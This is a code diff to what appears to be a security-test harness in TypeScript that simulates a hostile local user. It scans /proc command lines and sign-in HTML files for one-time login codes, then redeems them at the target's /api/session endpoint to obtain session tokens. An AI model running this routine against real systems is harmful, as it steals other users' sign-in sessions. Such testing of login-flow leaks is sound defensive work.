@@ -6,7 +6,8 @@ import { readdirSync, readFileSync } from "node:fs";
 import { connect, type Socket } from "node:net";
 import { text } from "node:stream/consumers";
 import { setImmediate as pause } from "node:timers/promises";
-import type { Asked, Loot } from "./neighbour.ts";
+import { type Asked, findSignInAddress, type Loot } from "./neighbour.ts";
+import { fetchPage } from "./request.ts";
 
 const NOBODY = 65534;
 process.setgroups?.([NOBODY]);
@@ -17,19 +18,19 @@ const loot: Loot = { passes: 0, codes: [], files: 0, tokens: 0 };
 const held: Socket[] = [];
 
 /** Looks through the arguments of all programs for a code, or a file that leads to one, and redeems it. */
-async function steal(url: string): Promise<never> {
+async function steal(): Promise<never> {
   for (;;) {
     for (const pid of readdirSync("/proc").filter((name) => /^\d+$/u.test(name))) {
       for (const word of readText(`/proc/${pid}/cmdline`).split("\0")) {
         const file = /\/sign-in\/.*\.html$/u.test(word) ? readText(word) : "";
         if (file !== "") loot.files += 1;
-        const code = /#code=([\w-]{43})/u.exec(word + file)?.[1];
-        if (code === undefined || loot.codes.includes(code)) continue;
-        loot.codes.push(code);
-        const answer = await fetch(`${url}/api/session`, {
+        const found = findSignInAddress(word + file);
+        if (found === undefined || loot.codes.includes(found.code)) continue;
+        loot.codes.push(found.code);
+        const answer = await fetchPage(found.page_url, "/api/session", {
           method: "POST",
           headers: { "content-type": "application/json" },
-          body: JSON.stringify({ code }),
+          body: JSON.stringify({ code: found.code }),
         }).catch(() => undefined);
         if (answer?.ok) loot.tokens += 1;
       }
@@ -50,7 +51,7 @@ function readText(file: string): string {
 async function answer(asked: Asked): Promise<unknown> {
   switch (asked.do) {
     case "steal":
-      void steal(asked.url);
+      void steal();
       return undefined;
     case "report":
       return loot;
